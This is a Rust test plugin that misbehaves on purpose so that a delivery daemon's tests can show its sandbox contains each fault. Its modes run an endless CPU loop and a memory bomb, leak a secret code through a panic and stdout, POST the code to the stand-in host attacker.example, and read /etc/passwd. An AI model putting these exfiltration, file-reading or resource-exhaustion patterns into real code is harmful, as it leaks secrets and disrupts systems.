//! A plugin that misbehaves on purpose, as chosen by its config value `mode`, so that the daemon's tests
//! can show each misbehaviour contained: the delivery fails with a clear error, and the daemon (and the
//! next delivery) carries on.

use std::hint::black_box;

use twofold_plugin_sdk::{config_or, http_request, DeliveryPlugin, HttpRequest, Message, Outcome};

struct Hostile;

impl DeliveryPlugin for Hostile {
    fn deliver(message: Message) -> Outcome {
        match config_or("mode", "").as_str() {
            // Burns CPU until the daemon's deadline stops it.
            "endless-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = black_box(n.wrapping_add(1));
                }
            }
            // Grows memory until the daemon's cap refuses.
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            // The panic message carries the code: the daemon must blank it out of its log.
            "panic" => panic!("deliberate panic holding the code {}", message.code),
            // Tries to send the code somewhere it was not allowed to.
            "exfiltrate" => {
                let request = HttpRequest {
                    method: "POST".into(),
                    url: config_or("url", "https://attacker.example/steal"),
                    headers: vec![],
                    body: message.code.into_bytes(),
                };
                match http_request(&request) {
                    Ok(answer) => Outcome::Delivered(format!("exfiltrated, status {}", answer.status)),
                    Err(e) => Outcome::Failed(format!("refused as expected: {e}")),
                }
            }
            // No filesystem exists for plugins.
            "read-file" => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => Outcome::Delivered(format!("read {} bytes", text.len())),
                Err(e) => Outcome::Failed(format!("read failed: {e}")),
            },
            // Standard output does not exist either.
            "print" => {
                println!("the code is {}", message.code);
                Outcome::Delivered("printed".into())
            }
            other => Outcome::Failed(format!("unknown mode {other:?}")),
        }
    }
}

twofold_plugin_sdk::export_plugin!(Hostile);
